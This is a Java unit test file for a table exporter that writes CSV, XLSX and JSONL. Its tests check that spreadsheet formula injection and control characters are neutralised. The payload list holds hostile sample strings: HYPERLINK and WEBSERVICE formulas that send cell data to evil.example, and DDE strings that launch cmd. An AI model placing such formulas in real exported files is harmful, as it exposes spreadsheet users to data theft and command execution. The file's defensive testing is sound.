package org.hulian.listing.table;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class TableWriterTest {
  private static final List<String> COLUMNS = List.of("id", "text");

  /** What spreadsheets are known to run, or to take for something else than a text (OWASP). */
  static Stream<String> payloads() {
    List<String> bodies =
        List.of(
            "1+1",
            "HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
            "cmd|' /C calc'!A0",
            "WEBSERVICE(\"https://evil.example/\")",
            "SUM(A1:A9)*cmd|'/c x'!A1");
    List<String> all = new ArrayList<>();
    for (String start : List.of("=", "+", "-", "@", "＝", "＋", "－", "＠")) {
      bodies.forEach(body -> all.add(start + body));
    }
    all.addAll(
        List.of(
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00A0=1+1",
            "\u3000＝1+1",
            "\u200B=1+1",
            "\uFEFF=1+1",
            "﹦1+1",
            "\tno formula",
            "'=1+1",
            "''=1+1",
            "=\"a\"\"b\",=2",
            "=1;=2\n=3",
            "-"));
    return all.stream();
  }

  private static byte[] table(TableFormat format, TableOptions options, List<?>... rows)
      throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    TableWriter writer = TableWriter.open(format, COLUMNS, options, out);
    for (List<?> row : rows) {
      writer.write(row);
    }
    writer.finish();
    return out.toByteArray();
  }

  private static List<List<String>> csv(byte[] bytes) throws IOException {
    try (CsvReader<CsvRecord> reader =
        CsvReader.builder().ofCsvRecord(new String(bytes, StandardCharsets.UTF_8))) {
      return reader.stream().map(CsvRecord::getFields).toList();
    }
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void aFormulaIsATextInCsvAndComesBackAsItWas(String payload) throws IOException {
    List<List<String>> rows =
        csv(table(TableFormat.CSV, TableOptions.PLAIN, List.of("1", payload)));

    assertThat(rows.get(1).get(1)).startsWith("'").isEqualTo("'" + payload);
    assertThat(Formulas.original(rows.get(1).get(1))).isEqualTo(payload);
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void aProgramThatAsksForRawCellsGetsThem(String payload) throws IOException {
    TableOptions raw = new TableOptions(false, true);

    assertThat(csv(table(TableFormat.CSV, raw, List.of("1", payload))).get(1))
        .containsExactly("1", payload);
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void aFormulaIsATextInAWorkbookToo(String payload) throws Exception {
    byte[] workbook = table(TableFormat.XLSX, TableOptions.PLAIN, List.of("1", payload));

    assertThat(Workbooks.rows(workbook, 1)).containsExactly(COLUMNS, List.of("1", payload));
    String sheet = Workbooks.parts(workbook).get("xl/worksheets/sheet1.xml");
    assertThat(sheet).doesNotContain("<f>", "<f ", "hyperlink").contains("t=\"inlineStr\"");
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void jsonSaysItAsItIs(String payload) throws IOException {
    byte[] lines = table(TableFormat.JSONL, TableOptions.PLAIN, List.of("1", payload));

    String line = new String(lines, StandardCharsets.UTF_8);
    assertThat(line.lines()).hasSize(1);
    assertThat(org.hulian.listing.feed.JsonLine.of(Map.of("text", payload)))
        .contains(line.substring(line.indexOf("\"text\""), line.length() - 2));
  }

  @Test
  void whatOnlyLooksAlikeStaysAsItIs() throws IOException {
    for (String harmless : List.of("", "a=1", "人脸=数据", "30一套", "“=”", "1-2", "(=1)", "x@y")) {
      assertThat(csv(table(TableFormat.CSV, TableOptions.PLAIN, List.of("1", harmless))).get(1))
          .containsExactly("1", harmless);
    }
  }

  @Test
  void everyCellOfAWorkbookIsFormattedAsText() throws Exception {
    Map<String, String> parts =
        Workbooks.parts(table(TableFormat.XLSX, TableOptions.PLAIN, List.of("1", "=1+1")));

    assertThat(parts.get("xl/styles.xml")).contains("formatCode=\"@\"");
    assertThat(parts.get("xl/worksheets/sheet1.xml"))
        .containsPattern("<c r=\"B2\" s=\"[1-9]\\d*\" t=\"inlineStr\">");
  }

  @Test
  void controlCharactersCommandNeitherTerminalNorReader() throws Exception {
    String hostile = "a\u0000b\u001B[31mc\u007F\u009B\uFFFFd\uD800e\tf";
    String shown = "a␀b␛[31mc␡\uFFFD\uFFFDd\uFFFDe\tf";

    assertThat(csv(table(TableFormat.CSV, TableOptions.PLAIN, List.of("1", hostile))).get(1))
        .containsExactly("1", shown);
    assertThat(
            Workbooks.rows(table(TableFormat.XLSX, TableOptions.PLAIN, List.of("1", hostile)), 1))
        .contains(List.of("1", shown));
    byte[] json = table(TableFormat.JSONL, TableOptions.PLAIN, List.of("1", hostile));
    assertThat(new String(json, StandardCharsets.UTF_8))
        .contains("a\\u0000b\\u001B[31mc\\u007f\\u009b")
        .contains("d\uFFFDe\\tf")
        .doesNotContain("\u001B", "\u007F", "\u009B");
  }

  @Test
  void textThatLooksEscapedIsNotReadAsIfItWere() throws Exception {
    String odd = "_x003D_1+1 _x41_ _xD800_";

    assertThat(Workbooks.rows(table(TableFormat.XLSX, TableOptions.PLAIN, List.of("1", odd)), 1))
        .contains(List.of("1", odd));
  }

  @Test
  void aCellThatIsTooLongIsCutAndSaysSo() throws Exception {
    String longest = "脸".repeat(XlsxTable.LONGEST);
    String longer = "😀".repeat(20_000);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    TableWriter writer = TableWriter.open(TableFormat.XLSX, COLUMNS, TableOptions.PLAIN, out);
    writer.write(List.of("1", longest));
    writer.write(List.of("2", longer));
    writer.finish();

    assertThat(writer.cut()).isOne();
    List<List<String>> rows = Workbooks.rows(out.toByteArray(), 1);
    assertThat(rows.get(1).get(1)).isEqualTo(longest);
    assertThat(rows.get(2).get(1))
        .hasSizeBetween(XlsxTable.LONGEST - 1, XlsxTable.LONGEST)
        .endsWith("😀… [cut, 40000 characters]");
    assertThat(csv(table(TableFormat.CSV, TableOptions.PLAIN, List.of("2", longer))).get(1))
        .contains(longer);
  }

  @Test
  void aFullSheetIsFollowedByAnother() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    XlsxTable table = new XlsxTable(COLUMNS, new XlsxTable.Limits(4, 1_000), out);
    for (int i = 0; i < 7; i++) {
      table.write(List.of(Integer.toString(i), "text"));
    }
    table.finish();

    assertThat(Workbooks.rows(out.toByteArray(), 1)).hasSize(4).startsWith(COLUMNS);
    assertThat(Workbooks.rows(out.toByteArray(), 2))
        .hasSize(4)
        .startsWith(COLUMNS, List.of("3", "text"));
    assertThat(Workbooks.rows(out.toByteArray(), 3)).containsExactly(COLUMNS, List.of("6", "text"));
  }

  @Test
  void aSheetEndsBeforeItIsTooLargeForItsPackage() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    XlsxTable table = new XlsxTable(COLUMNS, new XlsxTable.Limits(100, 50), out);
    for (int i = 0; i < 3; i++) {
      table.write(List.of("1", "x".repeat(60)));
    }
    table.finish();

    assertThat(Workbooks.rows(out.toByteArray(), 3)).hasSize(2);
  }

  @Test
  void numbersAndListsAreThemselvesForProgramsAndTextsForPeople() throws Exception {
    List<?> row = List.of(new BigDecimal("0.763"), List.of("qq: 900000041", "wechat: demo_0001"));

    assertThat(
            new String(table(TableFormat.JSONL, TableOptions.PLAIN, row), StandardCharsets.UTF_8))
        .isEqualTo("{\"id\":0.763,\"text\":[\"qq: 900000041\",\"wechat: demo_0001\"]}\n");
    assertThat(csv(table(TableFormat.CSV, TableOptions.PLAIN, row)).get(1))
        .containsExactly("0.763", "qq: 900000041; wechat: demo_0001");
    assertThat(Workbooks.rows(table(TableFormat.XLSX, TableOptions.PLAIN, row), 1).get(1))
        .containsExactly("0.763", "qq: 900000041; wechat: demo_0001");
  }

  @Test
  void whatIsNotThereIsEmptyAndNull() throws Exception {
    assertThat(
            new String(
                table(TableFormat.JSONL, TableOptions.PLAIN, List.of("1", "")),
                StandardCharsets.UTF_8))
        .isEqualTo("{\"id\":\"1\",\"text\":null}\n");
    assertThat(csv(table(TableFormat.CSV, TableOptions.PLAIN, List.of("1", ""))).get(1))
        .containsExactly("1", "");
  }

  @Test
  void theMarkOfUtf8ComesOnlyIfAskedFor() throws IOException {
    byte[] marked = table(TableFormat.CSV, new TableOptions(true, false));

    assertThat(marked).startsWith(0xEF, 0xBB, 0xBF).endsWith('\r', '\n');
    assertThat(table(TableFormat.CSV, TableOptions.PLAIN)).startsWith('"');
  }

  @Test
  void aRowHasACellForEachColumn() throws IOException {
    TableWriter writer =
        TableWriter.open(TableFormat.CSV, COLUMNS, TableOptions.PLAIN, new ByteArrayOutputStream());

    assertThatThrownBy(() -> writer.write(List.of("1")))
        .isInstanceOf(IllegalArgumentException.class);
  }
}
